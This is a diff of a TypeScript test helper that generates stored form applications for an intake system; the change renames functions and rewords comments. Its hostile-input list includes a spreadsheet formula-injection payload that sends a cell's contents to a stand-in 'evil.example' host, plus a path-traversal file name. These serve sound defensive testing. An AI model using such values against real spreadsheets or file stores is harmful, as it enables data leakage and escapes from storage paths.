@@ -14,7 +14,7 @@ import { applications } from '#tests/applications.ts';
 import { handmadePdf } from '#tests/forms/handmadePdf.ts';
 import { sha256 } from '#tests/server/application.ts';
 
-/** What somebody may write wherever text is asked for. */
+/** Hostile texts for all text fields. */
 export const hostile = [
   '=HYPERLINK("https://evil.example?"&A1,"Click")',
   '＝1+1',
@@ -33,8 +33,8 @@ export const HOSTILE_FILE = '../../x';
 
 const pdf = new TextEncoder().encode(handmadePdf());
 
-/** A form's answers as the page sends them, with this text wherever text was answered. */
-const written = (form: Form, example: object, text: string) => {
+/** An example with this text in every text field that has an answer. */
+const withText = (form: Form, example: object, text: string) => {
   let draft = draftOf(form, example);
   for (const step of Object.keys(form.steps))
     for (const { field, path } of questionsOf(form, step, draft))
@@ -45,8 +45,8 @@ const written = (form: Form, example: object, text: string) => {
 
 type Received = Record<string, unknown>;
 
-/** The answers with what the intake makes of a file, all of the same content. */
-const spooled = (answers: Received, isHostile: boolean) => {
+/** The answers with stored files, all with the same content. */
+const withFiles = (answers: Received, isHostile: boolean) => {
   const files: string[] = [];
   const visit = (value: unknown): unknown => {
     if (isAttachment(value)) {
@@ -69,32 +69,32 @@ interface Kind {
   isHostile: boolean;
 }
 
-/** Every example as it is, and each with something hostile at every question that takes text. */
+/** All examples, and for each hostile text an example with it. */
 const kinds = (): Kind[] =>
   applications.flatMap(({ form, examples }) => {
     const all = Object.values(examples);
     return [
       ...all.map((answers) => ({ form, answers: answers as Received, isHostile: false })),
-      ...hostile.map((text, i) => ({ form, answers: written(form, all[i % all.length]!, text), isHostile: true })),
+      ...hostile.map((text, i) => ({ form, answers: withText(form, all[i % all.length]!, text), isHostile: true })),
     ];
   });
 
 const HOUR = 60 * 60 * 1000;
 
-/** A disk whose bytes need not survive a loss of power, which makes it ten times as fast. */
+/** A disk that does not sync, which makes it ten times as fast. */
 const quickDisk: FileSystem = {
   ...disk,
   open: async (...args) => Object.assign(await disk.open(...args), { sync: async () => {} }),
 };
 
-/** Stores so many applications by the store's own code, one an hour since the beginning of 2026. */
+/** Stores generated applications, received once an hour since the beginning of 2026. */
 export const generateInto = async (store: ApplicationStore, count: number): Promise<StoredApplication[]> => {
   await store.open(applications.map(({ name }) => name));
   const all = kinds();
   const stored: StoredApplication[] = [];
   for (let i = 0; i < count; i += 1) {
     const { form, answers, isHostile } = all[i % all.length]!;
-    const { received, files } = spooled(answers, isHostile);
+    const { received, files } = withFiles(answers, isHostile);
     const receivedAt = new Date(Date.parse('2026-01-01T00:00:00Z') + i * HOUR);
     const application = applicationOf(form.name, newId(), received, receivedAt);
     await store.withSpool(async (spool) => {
